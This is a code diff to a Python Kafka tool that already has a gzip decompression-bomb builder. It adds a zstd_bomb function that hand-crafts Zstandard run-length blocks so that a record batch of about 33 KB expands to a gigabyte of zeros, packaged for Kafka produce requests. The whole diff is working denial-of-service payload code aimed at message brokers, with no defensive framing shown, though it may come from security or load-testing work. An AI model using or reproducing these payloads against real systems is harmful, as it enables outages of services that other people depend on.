@@ -14,8 +14,11 @@ import crc32c
 from kafka.admin import KafkaAdminClient
 from kafka.protocol.producer import ProduceRequest
 
-GZIP = 1
+GZIP, ZSTD = 1, 4
 BLOCK = bytes(1 << 20)
+ZSTD_HEAD = b"\x28\xb5\x2f\xfd\x00\x38"  # a frame without size and checksum, with a window of 128 KiB
+ZSTD_RAW, ZSTD_RUN = 0, 1  # types of blocks
+RUN_BYTES = 128 * 1024  # the most that a block of 4 bytes unpacks to
 
 
 def varint(number: int) -> bytes:
@@ -45,6 +48,25 @@ def gzip_bomb(value_bytes: int, headers: int = 0) -> bytes:
             yield header * min(100_000, headers - start)
 
     return batch_of(b"".join(packer.compress(piece) for piece in pieces()) + packer.flush(), GZIP)
+
+
+def zstd_bomb(value_bytes: int, count: int = 1) -> bytes:
+    """A batch of records with values of zeros, packed by hand as runs: a gigabyte takes 33 KB and no time.
+
+    Source: RFC 8878, "Zstandard Frames".
+    """
+    whole, rest = divmod(value_bytes, RUN_BYTES)
+    value = _zstd_block(ZSTD_RUN, RUN_BYTES, bytes(1)) * whole + _zstd_block(ZSTD_RUN, rest, bytes(1))
+    packed = bytearray(ZSTD_HEAD)
+    for offset in range(count):
+        head = bytes(1) + varint(0) + varint(offset) + varint(-1) + varint(value_bytes)
+        head = varint(len(head) + value_bytes + 1) + head
+        packed += _zstd_block(ZSTD_RAW, len(head), head) + value + _zstd_block(ZSTD_RAW, 1, varint(0))
+    return batch_of(bytes(packed) + _zstd_block(ZSTD_RAW, 0, b"", last=True), ZSTD, count)
+
+
+def _zstd_block(kind: int, size: int, content: bytes, *, last: bool = False) -> bytes:
+    return (size << 3 | kind << 1 | last).to_bytes(3, "little") + content
 
 
 def record(
